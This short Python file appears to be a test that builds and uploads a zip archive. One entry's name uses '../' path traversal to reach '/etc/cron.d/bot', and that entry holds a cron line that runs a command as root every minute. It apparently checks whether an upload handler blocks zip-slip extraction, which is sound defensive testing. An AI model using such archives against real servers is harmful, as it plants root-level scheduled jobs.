"""The name is written unchanged, as no tool would do."""

from making import LEGAL, entry, upload, zipped

upload("bot.zip", zipped(("main.py", LEGAL), (entry("lib/../../../../../etc/cron.d/bot"), b"* * * * * root id\n")))
